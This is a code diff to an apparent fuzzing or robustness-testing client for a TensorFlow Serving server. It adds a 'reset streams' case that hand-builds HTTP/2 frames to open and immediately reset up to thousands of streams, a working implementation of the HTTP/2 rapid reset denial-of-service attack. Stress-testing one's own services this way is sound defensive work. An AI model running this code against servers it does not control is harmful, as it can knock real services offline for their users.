@@ -8,6 +8,7 @@ import json
 import random
 import shutil
 import socket
+import struct
 import threading
 from collections import deque
 from collections.abc import Iterator
@@ -35,7 +36,7 @@ _FIRST_VERSION = 1
 _HEAVY = (
     *("too large", "many values", "distinct keys", "punctuation", "compressed zeros", "paused body"),
     *("damaged version", "half a version", "whole version"),
-    *("copied context", "empty members", "huge warm-up", "deep card"),
+    *("copied context", "empty members", "huge warm-up", "deep card", "reset streams"),
 )
 _HEAVY_SHARE = 0.02
 # Connections that are kept open without a complete request.
@@ -64,7 +65,7 @@ class HostileClient:
     """
 
     def __init__(self, host: str, rest: int, grpc_port: int, model: str, seed: int, folder: Path) -> None:
-        self._host, self._rest, self._model, self._folder = host, rest, model, folder
+        self._host, self._rest, self._grpc, self._model, self._folder = host, rest, grpc_port, model, folder
         self._random = random.Random(seed)
         self._channel = grpc.insecure_channel(f"{host}:{grpc_port}")
         self._kinds = {
@@ -97,6 +98,7 @@ class HostileClient:
             "huge warm-up": self._warm_up,
             "deep card": self._deep_card,
             "string content": self._content,
+            "reset streams": self._resets,
         }
         # Closed by the client when newer ones replace them.
         self._left_open: deque[socket.socket] = deque()
@@ -308,6 +310,30 @@ class HostileClient:
             connection.sendall(content)
         return "closed by us", True
 
+    def _resets(self) -> tuple[str, bool]:
+        """Opens streams and resets each at once, as in the rapid reset attack on HTTP/2."""
+        fields = {
+            ":method": "POST",
+            ":path": f"/tensorflow.serving.{_METHODS[0]}",
+            ":scheme": "http",
+            ":authority": "x",
+        }
+        fields |= {"content-type": "application/grpc", "te": "trailers"}
+        # Literal fields without indexing, of less than 127 bytes (RFC 7541, section 6.2.2).
+        block = b"".join(
+            b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+            for name, value in fields.items()
+        )
+        content = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _frame(4, 0, 0, b"")]
+        for number in range(1, 2 * self._random.choice([1, 100, 3000]), 2):
+            content += [_frame(1, 4, number, block), _frame(3, 0, number, bytes(4))]
+        with socket.create_connection((self._host, self._grpc), _TIMEOUT_SECONDS) as connection:
+            try:
+                connection.sendall(b"".join(content))
+            except (BrokenPipeError, ConnectionResetError):
+                return "connection closed", True
+        return "closed by us", True
+
     def _call(self, method: str, message: bytes) -> tuple[str, bool]:
         try:
             self._channel.unary_unary(f"/tensorflow.serving.{method}")(message, timeout=_TIMEOUT_SECONDS)
@@ -353,3 +379,8 @@ class HostileClient:
             tensor.tensor_shape.dim.add(size=self._random.choice([-1, 0, 1, 2**20, 2**40, 2**62]))
         request.model_spec.signature_name = self._random.choice(["", "", "ids", "none", "classify"])
         return self._call("PredictionService/Predict", request.SerializeToString())
+
+
+def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
+    """Returns a frame of HTTP/2."""
+    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content
